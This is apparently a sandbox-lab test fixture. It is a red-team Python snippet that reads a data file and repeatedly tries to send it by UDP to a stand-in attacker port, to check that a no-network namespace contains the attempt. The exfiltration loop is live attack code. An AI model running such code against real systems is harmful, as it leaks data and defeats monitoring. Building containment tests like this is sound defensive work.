# lab:title: Exfiltration by UDP sendmsg(), retried until the clock ends it
# lab:threat: exfil
# lab:layer: network
# lab:consequence: test
# adversary: --on all => CONTAINED network ~ sendmsg
# adversary: --on network => CONTAINED network ~ sendmsg
"""The red team's F6 (n4): the datagram is refused, and the snippet tries
again every second until the wall clock ends the run. The clock stops the
loop, not the attack: what met the attempt, every time, was No-network's
namespace, so the credit is No-network's, not Resource-limits'."""
import os
import socket
import time
import urllib.parse

u = urllib.parse.urlsplit(os.environ["LAB_ATTACKER"])
body = open(os.environ["LAB_DATA"], "rb").read()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    try:
        s.sendmsg([body[:1000]], [], 0, ("127.0.0.1", u.port or 80))
        print("sent", flush=True)
    except OSError as e:
        print("refused:", e, flush=True)
    time.sleep(1)
